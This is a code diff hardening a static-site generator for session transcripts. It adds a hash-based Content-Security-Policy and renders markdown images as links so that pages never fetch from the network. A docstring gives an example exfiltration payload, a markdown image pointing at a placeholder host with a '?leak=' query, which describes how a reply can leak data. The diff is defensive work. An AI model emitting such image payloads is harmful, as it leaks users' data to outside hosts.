@@ -1,13 +1,16 @@
 """A browsable static site of sessions: one page per session and an index page with a filter box.
 
 Everything a page needs is inside it (styles and the filter's few lines of script), so the folder opens
-from disk in any browser, with no server and nothing fetched. Session pages are the markdown export
-rendered to HTML; raw HTML in a message is shown as text, never run.
+from disk in any browser, with no server and nothing fetched: a Content-Security-Policy allows the
+page's own style and script only, and an image in a message is a link to it. Session pages are the
+markdown export rendered to HTML; raw HTML in a message is shown as text, never run.
 """
 
 from __future__ import annotations
 
+import base64
 import functools
+import hashlib
 import html
 from typing import Any
 
@@ -51,15 +54,38 @@ apply();
 """
 
 
+def _digest(text: str) -> str:
+    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode("utf-8")).digest()).decode("ascii") + "'"
+
+
+POLICY = (
+    f"default-src 'none'; style-src {_digest(STYLE)}; script-src {_digest(FILTER_SCRIPT)}; img-src data:; "
+    "base-uri 'none'; form-action 'none'"
+)
+"""Nothing from the network, ever (a reply's ``![x](https://host/?leak=...)`` would otherwise be
+fetched when the page opens): the page's own style and filter script only, by their hashes."""
+
+
+def _image_as_link(renderer: Any, tokens: Any, index: int, options: Any, env: Any) -> str:
+    """An image of a message as a link to it: a page never loads anything by itself."""
+    token = tokens[index]
+    source = str(token.attrGet("src") or "")
+    alt = renderer.renderInlineAsText(token.children or [], options, env) or source
+    return f'<a href="{html.escape(source)}" rel="noreferrer">[image: {html.escape(alt)}]</a>'
+
+
 @functools.lru_cache(maxsize=1)
 def _markdown() -> Any:
-    return MarkdownIt("commonmark", {"html": False}).enable("table")
+    renderer = MarkdownIt("commonmark", {"html": False}).enable("table")
+    renderer.add_render_rule("image", _image_as_link)
+    return renderer
 
 
 def _page(title: str, body: str) -> str:
     return (
         '<!doctype html>\n<html lang="en"><head><meta charset="utf-8">'
         '<meta name="viewport" content="width=device-width, initial-scale=1">'
+        f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
         f"<title>{html.escape(title)}</title><style>{STYLE}</style></head>\n"
         f"<body><main>\n{body}\n</main></body></html>\n"
     )
